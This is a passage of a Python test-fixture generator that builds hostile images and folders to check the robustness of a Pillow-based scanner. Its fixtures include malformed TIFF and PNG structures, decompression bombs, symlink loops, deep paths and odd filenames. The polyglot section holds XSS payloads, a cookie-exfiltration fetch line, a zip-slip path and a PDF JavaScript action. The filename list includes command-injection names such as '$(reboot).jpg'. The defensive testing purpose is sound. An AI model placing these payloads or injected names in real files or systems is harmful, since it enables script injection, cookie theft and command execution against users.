        ("chunk_len_2g", png_insert(png, struct.pack(">I", 0x7FFFFFFF) + b"tEXt" + b"x" * 64),
         "tEXt whose length says 2 GiB"),
        ("exif_twice", png_insert(png, png_chunk(b"eXIf", parts().exif[6:]) * 50),
         "50 eXIf chunks"),
    ]
    for what, data, note in cases:
        yield HostileFile("png_chunks", f"{what}.png", data, f"PNG: {note}")


def tiff_strips(scale: Scale) -> Iterator[HostileFile]:
    """TIFF abuse: huge and inconsistent strip counts, absurd tiles and samples, long and
    looping IFD chains, SubIFD loops, BigTIFF offsets past the end."""
    many = scale.many
    px = bytes(range(256)) * 3

    def tif(extra: list[Entry], drop: tuple[int, ...] = (), **kw: object) -> bytes:
        base: list[Entry] = [(0x0100, 3, 16), (0x0101, 3, 16), (0x0102, 3, [8, 8, 8]),
                             (0x0103, 3, 1), (0x0106, 3, 2), (0x0111, 4, None), (0x0115, 3, 3),
                             (0x0116, 3, 16), (0x0117, 4, 768)]
        tags = {t for t, _, _ in extra} | set(drop)
        return build_tiff([e for e in base if e[0] not in tags] + extra, strips=px, **kw)

    cases = [
        ("strip_count_huge", tif([(0x0111, 4, list(range(8, 8 + many * 10))),
                                  (0x0117, 4, [1] * (many * 10)), (0x0116, 3, 1)]),
         f"{many * 10} strips of 1 byte"),
        ("strip_counts_mismatch", tif([(0x0111, 4, [8] * 16), (0x0117, 4, [48] * 3),
                                       (0x0116, 3, 1)]), "16 offsets, 3 byte counts"),
        ("strip_bytes_4g", tif([(0x0117, 4, 0xFFFFFFFF)]), "StripByteCounts 4 GiB"),
        ("rows_per_strip_0", tif([(0x0116, 3, 0)]), "RowsPerStrip 0"),
        ("tiles_0", tif([(0x0142, 3, 0), (0x0143, 3, 0), (0x0144, 4, 8), (0x0145, 4, 768)],
                        drop=(0x0111, 0x0117)), "TileWidth/TileLength 0"),
        ("tiles_huge", tif([(0x0142, 4, 0x7FFFFFF0), (0x0143, 4, 0x7FFFFFF0),
                            (0x0144, 4, 8), (0x0145, 4, 768)], drop=(0x0111, 0x0117)),
         "tiles of 2^31 pixels"),
        ("samples_65535", tif([(0x0115, 3, 65535), (0x0102, 3, 8)]), "65535 samples per pixel"),
        ("bits_0", tif([(0x0102, 3, [0, 0, 0])]), "BitsPerSample 0"),
        ("bits_255", tif([(0x0102, 3, [255, 255, 255])]), "BitsPerSample 255"),
        ("extra_samples_many", tif([(0x0152, 3, [2] * 4000)]), "4000 ExtraSamples"),
        ("colormap_short", tif([(0x0106, 3, 3), (0x0115, 3, 1), (0x0102, 3, 8),
                                (0x0140, 3, [0] * 5)]), "palette with 5 ColorMap values"),
        ("jpeg_garbage", tif([(0x0103, 3, 7), (0x015B, 7, b"\xff\xd8garbage")]),
         "JPEG-in-TIFF with garbage tables"),
        ("lzw_garbage", tif([(0x0103, 3, 5)]), "LZW claimed, raw bytes inside"),
        ("deflate_garbage", tif([(0x0103, 3, 8)]), "Deflate claimed, raw bytes inside"),
        ("packbits_garbage", tif([(0x0103, 3, 32773)]), "PackBits over arbitrary bytes"),
        ("ccitt_garbage", tif([(0x0103, 3, 4), (0x0106, 3, 0), (0x0115, 3, 1),
                               (0x0102, 3, 1)]), "CCITT G4 over arbitrary bytes"),
        ("compression_unknown", tif([(0x0103, 3, 65000)]), "unknown compression"),
        ("predictor_bad", tif([(0x0103, 3, 5), (0x013D, 3, 9)]), "predictor 9"),
        ("photometric_99", tif([(0x0106, 3, 99)]), "PhotometricInterpretation 99"),
        ("subifd_loop", tif([(0x014A, 4, 8)]), "SubIFDs pointing at the pixel data"),
    ]
    plain = tif([])
    for f in tiff_fields(plain, 0):
        if f.kind == "count" and f.tag in (0x0111, 0x0117):
            cases.append((f"strip_tag_{f.tag:04x}_count_4g",
                          put(plain, f.pos, struct.pack("<I", 0xFFFFFFFF)),
                          f"tag 0x{f.tag:04X} count 2^32-1"))
    pages = [[(0x0100, 3, 1), (0x0101, 3, 1), (0x0102, 3, 8), (0x0103, 3, 1), (0x0106, 3, 1),
              (0x0111, 4, 8), (0x0116, 3, 1), (0x0117, 4, 1)] for _ in range(many)]
    chain = tif([], next_ifds=pages)
    cases.append(("ifd_chain_long", chain, f"{many + 1} pages (IFD chain)"))
    # make the last page point back to the first: an IFD loop Pillow must walk to count frames
    fields = [f for f in tiff_fields(chain, 0, max_ifds=many + 2) if f.kind == "next_ifd"]
    ifd0 = struct.unpack("<I", chain[4:8])[0]
    if fields:
        cases.append(("ifd_chain_loop", put(chain, fields[-1].pos, struct.pack("<I", ifd0)),
                      f"{len(fields)} pages whose last points back to the first"))
    two = tif([], next_ifds=pages[:1])
    nexts = [f for f in tiff_fields(two, 0) if f.kind == "next_ifd"]
    if len(nexts) >= 2:
        cases.append(("ifd_two_cycle", put(two, nexts[1].pos, struct.pack("<I", ifd0)),
                      "page 2 points back to page 1"))
    big = (b"II+\x00\x08\x00\x00\x00" + struct.pack("<Q", 0x7FFFFFFFFFFFFFF0))
    cases.append(("bigtiff_past_eof", big, "BigTIFF whose IFD offset is 2^63"))
    big2 = b"II+\x00\x08\x00\x00\x00" + struct.pack("<Q", 16) + struct.pack("<Q", 0xFFFFFFFF)
    cases.append(("bigtiff_entries_4g", big2, "BigTIFF IFD with 2^32-1 entries"))
    for what, data, note in cases:
        yield HostileFile("tiff_strips", f"{what}.tif", data, f"TIFF: {note}")


def animations(scale: Scale) -> Iterator[HostileFile]:
    """Many frames: a GIF of thousands of 1x1 frames, frames larger than the screen, an
    animated WebP of many frames."""
    many = scale.many
    frame = b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"
    gif = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff" + frame * many
           + b"\x3b")
    yield HostileFile("animation", "gif_many_frames.gif", gif, f"GIF with {many} 1x1 frames")
    big_frame = b"\x2c\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02\x44\x01\x00"
    yield HostileFile("animation", "gif_frame_over_screen.gif",
                      gif[:19] + frame + big_frame * 3 + b"\x3b",
                      "GIF whose later frames are 65535x65535 on a 1x1 screen")
    gce = b"\x21\xf9\x04\x05\xff\xff\x00\x00"  # disposal 1, delay 65535
    yield HostileFile("animation", "gif_graphic_control_flood.gif",
                      gif[:19] + gce * (many * 5) + frame + b"\x3b",
                      f"{many * 5} graphic-control extensions before one frame")
    yield HostileFile("animation", "gif_comment_flood.gif",
                      gif[:19] + (b"\x21\xfe" + _gif_subblocks(b"c" * 5000) + b"\x00") * many
                      + frame + b"\x3b", f"{many} comment extensions of 5000 bytes")
    imgs = [Image.new("RGB", (8, 8), (i % 256, 0, 0)) for i in range(min(many, 1000))]
    buf = io.BytesIO()
    imgs[0].save(buf, "WEBP", save_all=True, append_images=imgs[1:], duration=1, lossless=True)
    yield HostileFile("animation", "webp_many_frames.webp", buf.getvalue(),
                      f"animated WebP with {len(imgs)} frames")
    buf = io.BytesIO()
    imgs[0].save(buf, "PNG", save_all=True, append_images=imgs[1:200], duration=1)
    yield HostileFile("animation", "apng_200_frames.png", buf.getvalue(), "APNG, 200 frames")


def polyglots(scale: Scale) -> Iterator[HostileFile]:
    """Files that are two things at once: JPEG+ZIP, PNG+HTML, a GIF that is JavaScript, and
    their reverses (ZIP, HTML or PDF first)."""
    s = seed_files(scale.name)
    jpg, png, gif = s["seed.jpg"], s["seed.png"], s["seed.gif"]
    zdata = _zip_of(("index.html", b"<html><script>alert(document.domain)</script></html>"),
                    ("run.js", b"fetch('http://127.0.0.1:9/'+document.cookie)"),
                    ("../../escape.txt", b"zip-slip path"))
    html = (b"<!DOCTYPE html><html><body><script>alert(document.domain)</script>"
            b"<img src=x onerror=alert(1)></body></html>")
    js_gif = (b"GIF89a/*\x0a\x00\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
              + b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b"
              + b"*/=1;alert(document.domain);//")
    pdf = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS"
           b"(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    cases = [
        ("jpeg_zip.jpg", jpg + zdata, "JPEG with a ZIP (HTML, JS, zip-slip name) appended"),
        ("zip_jpeg.jpg", zdata + jpg, "ZIP first, JPEG after"),
        ("jpeg_in_zip.zip", _zip_of(("photo.jpg", jpg)), "ZIP holding a JPEG"),
        ("png_html.png", png + html, "PNG with HTML after IEND"),
        ("png_html_chunk.png", png_insert(png, png_chunk(b"tEXt", b"Comment\x00" + html)),
         "PNG with HTML in a tEXt chunk"),
        ("html_png.png", html + png, "HTML first, PNG after"),
        ("gif_js.gif", js_gif, "GIF89a header that is also valid JavaScript"),
        ("gif_js_real.gif", gif[:6] + b"/*" + gif[8:] + b"*/=1;alert(1);//",
         "the seed GIF made a JavaScript comment"),
        ("jpeg_pdf.jpg", jpeg_insert(jpg, jpeg_segment(0xFE, pdf), drop_app0=False) + pdf,
         "JPEG carrying a PDF in COM and after EOI"),
        ("pdf_jpeg.jpg", pdf + jpg, "PDF first, JPEG after"),
        ("jpeg_html_com.jpg", jpeg_insert(jpg, jpeg_segment(0xFE, html), drop_app0=False),
         "JPEG with HTML in a COM segment"),
        ("svg_script.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
         b"<script>alert(2)</script></svg>", "SVG with script"),
        ("svg_named.jpg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
         b"</svg>", "SVG named .jpg"),
        ("html_named.jpg", html, "HTML named .jpg"),
        ("jpeg_mp4.jpg", jpg + b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
         + b"\x00" * 64, "JPEG with an MP4 header appended"),
        ("heic_head_jpeg.heic", s.get("seed.heic", b"")[:32] + jpg,
         "HEIC ftyp box followed by a JPEG"),
        ("webp_html.webp", s["seed.webp"] + html, "WebP with HTML appended (RIFF size kept)"),
        ("png_zip.png", png + zdata, "PNG with a ZIP appended"),
        ("tiff_html.tif", s["seed.tif"] + html, "TIFF with HTML appended"),
    ]
    for name, data, note in cases:
        yield HostileFile("polyglot", name, data, note)


def _zip_of(*members: tuple[str, bytes]) -> bytes:
    """A ZIP of (name, bytes) members with a fixed timestamp (deterministic)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, date_time=(2025, 1, 7, 0, 0, 0)), data)
    return buf.getvalue()


_WRONG_EXTS = ("png", "jpg", "gif", "tif", "webp", "heic", "txt", "gpx", "pdf", "exe", "JPG",
               "jpg.exe", "svg", "zip", "json")


def wrong_extensions(scale: Scale) -> Iterator[HostileFile]:
    """Every small seed under names of other types, and non-images under image names."""
    for name, data in seed_files(scale.name).items():
        if _is_sample(name):
            continue
        real = _ext(name)
        exts = [e for e in _WRONG_EXTS if e.lower() != real.lower()]
        if scale.name == "small":
            exts = exts[::7]
        for ext in exts:
            yield HostileFile("wrong_extension", f"{_stem(name)}_{real}_as.{ext}", data,
                              f"{name} named .{ext}", name)
        yield HostileFile("wrong_extension", f"{_stem(name)}_{real}_noext", data,
                          f"{name} without an extension", name)
    for what, data in (("text", b"just some text\n"), ("json", b'{"a": 1}'),
                       ("gpx", b'<?xml version="1.0"?><gpx></gpx>'), ("pdf", b"%PDF-1.4\n%%EOF"),
                       ("zip", _zip_of(("a.txt", b"a"))), ("elf", b"\x7fELF\x02\x01\x01"
                                                                + bytes(56))):
        for ext in ("jpg", "png", "heic"):
            yield HostileFile("wrong_extension", f"{what}_as.{ext}", data,
                              f"{what} bytes named .{ext}")


_MAGICS = (
    b"\xff", b"\xff\xd8", b"\xff\xd8\xff", b"\xff\xd8\xff\xe1", b"\xff\xd8\xff\xe1\xff\xff",
    b"\xff\xd8\xff\xe1\x00\x10Exif\x00\x00MM\x00*", b"\xff\xd8\xff\xdb", b"\xff\xd8\xff\xd9",
    b"\x89PNG\r\n\x1a\n", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"GIF89a", b"GIF87a\x01\x00",
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00", b"II*\x00", b"MM\x00*", b"II*\x00\x08\x00\x00\x00",
    b"II*\x00\x08\x00\x00\x00\xff\xff", b"II+\x00\x08\x00\x00\x00", b"RIFF\x00\x00\x00\x00WEBP",
    b"RIFF\xff\xff\xff\xffWEBPVP8X", b"RIFF\x04\x00\x00\x00WEBPVP8 ", b"BM",
    b"BM" + bytes(12), b"\x00\x00\x00\x18ftypheic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00",
    b"\x00\x00\x00\x0cftypavif", b"\xff\x0a", b"\x00\x00\x00\x0cJXL \r\n\x87\n", b"%PDF-",
    b"PK\x03\x04", b"\xef\xbb\xbf", b"<", b"<?xml", b"{", b"\x00", b"\r\n", b"\xfe\xff",
)


def tiny_files(scale: Scale) -> Iterator[HostileFile]:
    """Zero-byte files, 1-byte files (every byte value at full scale) and bare magic numbers."""
    for ext in ("jpg", "png", "heic", "txt", "bin"):
        yield HostileFile("tiny", f"zero.{ext}", b"", "0 bytes")
    values = range(256) if scale.name != "small" else range(0, 256, 17)
    for v in values:
        yield HostileFile("tiny", f"one_{v:02x}.jpg", bytes([v]), f"1 byte 0x{v:02x}")
    for i, magic in enumerate(_MAGICS):
        yield HostileFile("tiny", f"magic{i}.bin", magic, f"bare magic {magic[:12]!r}")


FILE_FAMILIES: dict[str, Callable[[Scale], Iterator[HostileFile]]] = {
    "truncation": truncations,
    "bitflip_random": bitflips_random,
    "bitflip_structured": bitflips_structured,
    "ifd_loops": ifd_loops,
    "ifd_past_eof": ifd_past_eof,
    "tag_counts": tag_counts,
    "pixel_bomb": pixel_bombs,
    "zlib_bomb": zlib_bombs,
    "text_chunks": text_chunks,
    "xmp_hostile": xmp_hostile,
    "icc_garbage": icc_garbage,
    "app_segments": app_segments,
    "png_chunks": png_chunk_floods,
    "tiff_strips": tiff_strips,
    "animation": animations,
    "polyglot": polyglots,
    "wrong_extension": wrong_extensions,
    "tiny": tiny_files,
}

BOMB_FAMILIES = ("pixel_bomb", "zlib_bomb", "text_chunks")
"""Families whose inputs claim, or inflate to, far more memory than they occupy."""


def generate_files(scale: str | Scale = "small",
                   families: Iterable[str] | None = None) -> Iterator[HostileFile]:
    """Every hostile file of the chosen families (all by default), deterministically."""
    sc = get_scale(scale)
    for fam in families or FILE_FAMILIES:
        yield from FILE_FAMILIES[fam](sc)


def write_files(files: Iterable[HostileFile], dest: str | os.PathLike[str]) -> list[Path]:
    """Write each file to ``dest/<family>/<name>``; return the paths in order."""
    out = []
    for f in files:
        folder = Path(dest) / f.family
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f.name
        path.write_bytes(f.data)
        out.append(path)
    return out


# =========================================================================== folder families


@dataclass(frozen=True)
class FolderCase:
    family: str
    root: bytes
    """The folder to scan (``os.fsencode``-level path)."""
    expected: tuple[bytes, ...]
    """Every path the batch must report as an item, as bytes."""
    note: str


_OPEN_DIR = os.O_RDONLY | os.O_DIRECTORY


def _write_at(dir_fd: int, name: bytes, data: bytes) -> None:
    fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=dir_fd)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


@functools.lru_cache(maxsize=1)
def _tiny_images() -> tuple[bytes, ...]:
    arr = _picture(8, 8, 11)
    return (_encode(arr, "PNG"), _encode(arr, "GIF"), _encode(arr, "JPEG", quality=80))


def build_many_tiny(root: str | os.PathLike[str], scale: str | Scale = "small") -> FolderCase:
    """``tiny_files`` files in ONE directory: 0 to 16 bytes of magic numbers, text and noise,
    and one 8x8 image in 50 (PNG, GIF or JPEG)."""
    sc = get_scale(scale)
    top = os.path.join(os.fsencode(os.fspath(root)), b"many_tiny")
    os.makedirs(top, exist_ok=True)
    rng = _rng("tiny")
    noise = rng.integers(0, 256, (sc.tiny_files, 16), dtype=np.uint8)
    lengths = rng.integers(0, 17, sc.tiny_files)
    images = _tiny_images()
    fd = os.open(top, _OPEN_DIR)
    paths = []
    try:
        for i in range(sc.tiny_files):
            kind = i % 50
            if kind == 0:
                data, ext = images[(i // 50) % 3], (b"png", b"gif", b"jpg")[(i // 50) % 3]
            elif kind < 20:
                data, ext = _MAGICS[i % len(_MAGICS)], b"jpg"
            else:
                data, ext = noise[i, :lengths[i]].tobytes(), b"bin"
            name = b"t%06d.%s" % (i, ext)
            _write_at(fd, name, data)
            paths.append(os.path.join(top, name))
    finally:
        os.close(fd)
    return FolderCase("many_tiny", top, tuple(paths),
                      f"{sc.tiny_files} files of 0-16 bytes (2% tiny images) in one folder")


def _path_limit() -> int:
    try:
        return int(os.pathconf("/", "PC_PATH_MAX")) - 1
    except (OSError, ValueError):  # pragma: no cover
        return 4095


def build_deep_dirs(root: str | os.PathLike[str], scale: str | Scale = "small") -> FolderCase:
    """A chain of ``deep_levels`` nested folders with a small image every 10 levels and at the
    bottom; and a chain of long folder names that goes past PATH_MAX (the part past it cannot be
    listed: it must come out as one ``unreadable_directory`` item, not vanish)."""
    sc = get_scale(scale)
    top = os.path.join(os.fsencode(os.fspath(root)), b"deep_dirs")
    os.makedirs(top, exist_ok=True)
    img = _tiny_images()[2]
    expected: list[bytes] = []
    limit = _path_limit()

    def chain(first: bytes, names: Iterable[bytes], every: int) -> None:
        path = os.path.join(top, first)
        os.mkdir(path)
        fd = os.open(path, _OPEN_DIR)
        unlisted = False
        try:
            for level, name in enumerate(names, 1):
                if level % every == 0:
                    _write_at(fd, b"img.jpg", img)
                    if not unlisted:
                        expected.append(os.path.join(path, b"img.jpg"))
                os.mkdir(name, dir_fd=fd)
                new = os.open(name, _OPEN_DIR, dir_fd=fd)
                os.close(fd)
                fd = new
                path = os.path.join(path, name)
                if len(path) > limit and not unlisted:
                    unlisted = True
                    expected.append(path)  # the folder that cannot be listed
            _write_at(fd, b"bottom.jpg", img)
            if not unlisted:
                expected.append(os.path.join(path, b"bottom.jpg"))
        finally:
            os.close(fd)

    chain(b"chain", (b"d" for _ in range(sc.deep_levels)), 10)
    long_levels = (limit + 600) // 201 + 1
    chain(b"overlong", (b"L" * 200 for _ in range(long_levels)), 1)
    return FolderCase("deep_dirs", top, tuple(expected),
                      f"{sc.deep_levels} nested folders; {long_levels} folders of 200-byte "
                      f"names (past PATH_MAX {limit + 1})")


def build_symlinks(root: str | os.PathLike[str], scale: str | Scale = "small", *,
                   link_chain: bool = True) -> FolderCase:
    """Symbolic-link loops and oddities: a folder link to its parent and to itself, a file
    link to itself, a two-link cycle, dangling links, links to /dev/zero and to a folder
    outside, a FIFO, a 3 GiB sparse file; with ``link_chain``, a chain of 51 links to a real
    image (the kernel gives up after 40, Python's realpath() does not)."""
    top = os.path.join(os.fsencode(os.fspath(root)), b"symlinks")
    os.makedirs(os.path.join(top, b"sub"), exist_ok=True)
    real = os.path.join(top, b"sub", b"real.png")
    with open(real, "wb") as fh:
        fh.write(_tiny_images()[0])
    links = {
        b"sub/parent_loop": b"..",
        b"sub/self_dir_loop": b".",
        b"self_loop": b"self_loop",
        b"ping": b"pong",
        b"pong": b"ping",
        b"dangling.jpg": b"does/not/exist.jpg",
        b"dev_zero.jpg": b"/dev/zero",
        b"outside_dir": b"/usr",
        b"abs_loop": os.path.join(top, b"abs_loop"),
    }
    if link_chain:
        for i in range(50):
            links[b"chain%02d" % i] = b"chain%02d" % (i + 1)
        links[b"chain50"] = b"sub/real.png"
    for name, target in links.items():
        os.symlink(target, os.path.join(top, name))
    if hasattr(os, "mkfifo"):
        os.mkfifo(os.path.join(top, b"fifo.jpg"))
    with open(os.path.join(top, b"sparse_3gib.jpg"), "wb") as fh:
        fh.write(b"\xff\xd8\xff")
        fh.truncate(3 << 30)
    # In walk order (a folder's links to folders, its files, then its subfolders), keeping
    # the first name of each file that can be opened: the batch analyses a file once and
    # counts its other names as duplicates. Names that cannot be opened are items each.
    order: list[bytes] = []
    for folder in (top, os.path.join(top, b"sub")):
        names = sorted(os.listdir(folder))
        paths = [os.path.join(folder, n) for n in names]
        order += [p for p in paths if os.path.islink(p) and os.path.isdir(p)]
        order += [p for p in paths if not os.path.isdir(p)]
    expected, seen = [], set()
    for p in order:
        if os.path.exists(p) and not os.path.isdir(p):
            key = os.path.realpath(p)
            if key in seen:
                continue
            seen.add(key)
        expected.append(p)
    return FolderCase("symlinks", top, tuple(expected),
                      "symlink loops (folder and file), dangling and device links, a FIFO, a "
                      "3 GiB sparse file" + (", a 51-link chain to a real image" if link_chain
                                             else ""))


ODD_NAMES = (
    b"new\nline.jpg", b"two\n\nnewlines\n.jpg", b"tab\there.jpg", b"carriage\rreturn.jpg",
    b"\xff\xfe invalid utf8.jpg", b"latin1 \xe9t\xe9.jpg", b"\xc3\x28 bad continuation.jpg",
    b"\xed\xa0\x80 surrogate.jpg", b"overlong \xc0\xaf.jpg", b"-rf.jpg", b"--help",
    b" leading space.jpg", b"trailing space.jpg ", b"\x1b[31mred\x1b[0m.jpg",
    "\u202egpj.exe".encode(), b"A" * 251 + b".jpg", b"...jpg", b".hidden.jpg",
    b"back\\slash.jpg", b"quote\"s'.jpg", b"$(reboot).jpg", b"%s%n%x.jpg", b"CON",
    "emoji \U0001f4f7.jpg".encode(), "caf\u00e9.jpg".encode(), "cafe\u0301.jpg".encode(),
    b"\x7f del.jpg", b"\x01ctrl.jpg", b"semi;colon&amp.jpg", b"star*?[].jpg",
)


def build_odd_names(root: str | os.PathLike[str], scale: str | Scale = "small") -> FolderCase:
    """Small images under hostile names (newlines, invalid UTF-8, control characters, ANSI
    escapes, right-to-left override, 255-byte names), also inside an oddly named folder."""
    top = os.path.join(os.fsencode(os.fspath(root)), b"odd_names")
    sub = os.path.join(top, b"dir\nwith \xff newline")
    os.makedirs(sub, exist_ok=True)
    imgs = _tiny_images()
    expected = []
    for folder in (top, sub):
        for i, name in enumerate(ODD_NAMES):
            path = os.path.join(folder, name)
            with open(path, "wb") as fh:
                fh.write(imgs[i % 3])
            expected.append(path)
    return FolderCase("odd_names", top, tuple(expected),
                      f"{len(ODD_NAMES)} hostile names, twice (one folder's name is hostile "
                      "too)")


FOLDER_FAMILIES: dict[str, Callable[[str | os.PathLike[str], str | Scale], FolderCase]] = {
    "many_tiny": build_many_tiny,
    "deep_dirs": build_deep_dirs,
    "symlinks": build_symlinks,
    "odd_names": build_odd_names,
}


def remove_tree(path: str | bytes | os.PathLike[str]) -> None:
    """Delete a tree without recursion and without full paths (``shutil.rmtree`` fails on the
    trees built here: it recurses once per level and joins paths past PATH_MAX)."""
    top = os.fsencode(os.fspath(path))
    try:
        st = os.lstat(top)
    except FileNotFoundError:
        return
    if not stat.S_ISDIR(st.st_mode):
        os.unlink(top)
        return
    stack: list[tuple[int, bytes]] = [(os.open(top, _OPEN_DIR), top)]
    while stack:
        fd, _ = stack[-1]
        child = None
        with os.scandir(fd) as it:
            for entry in it:
                if entry.is_dir(follow_symlinks=False):
                    child = os.fsencode(entry.name)
                    break
                os.unlink(entry.name, dir_fd=fd)
        if child is not None:
            stack.append((os.open(child, _OPEN_DIR, dir_fd=fd), child))
            continue
        os.close(fd)
        _, name = stack.pop()
        if stack:
            os.rmdir(name, dir_fd=stack[-1][0])
        else:
            os.rmdir(top)
